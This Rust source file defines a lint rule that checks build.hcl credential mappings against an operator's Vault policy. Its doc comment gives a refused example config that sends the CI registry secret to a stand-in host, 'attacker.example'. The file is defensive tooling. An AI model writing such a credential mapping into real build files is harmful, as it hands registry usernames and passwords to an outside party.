//! `policy-credentials`: reported by [`crate::policy`] when an operator policy is in force.

declare_rule! {
    /// ## What it checks
    ///
    /// Each `credentials` and `pull_credentials` `path` of a `registry "<host>"` block has a
    /// `credentials "<path>"` block in the operator policy whose `registries` match the host, and the
    /// `path` of `source.credentials` has one whose `sources` match the source URL's host. A path the
    /// policy does not list is refused.
    ///
    /// ## Why it matters
    ///
    /// build.hcl says which secret goes to which registry or git host. A branch that maps the real
    /// push secret to `registry "attacker.example"` would have buildah send the user name and password
    /// there with its first request.
    ///
    /// ## Example
    ///
    /// With this operator policy:
    ///
    /// ```hcl
    /// credentials "secret/data/ci/registry" {
    ///   registries = ["registry.example.com"]
    /// }
    /// ```
    ///
    /// this build.hcl is refused:
    ///
    /// ```hcl
    /// pipeline "app" {
    ///   vault {
    ///     role = "nomad-build"
    ///   }
    ///   image {
    ///     repository = "attacker.example/acme/app"
    ///   }
    ///   registry "attacker.example" {
    ///     credentials {
    ///       path = "secret/data/ci/registry"
    ///     }
    ///   }
    ///   build {}
    /// }
    /// ```
    PolicyCredentials {
        id: "policy-credentials",
        severity: Error,
        summary: "a Vault secret is sent where the operator policy does not allow, or is not in it",
    }
}
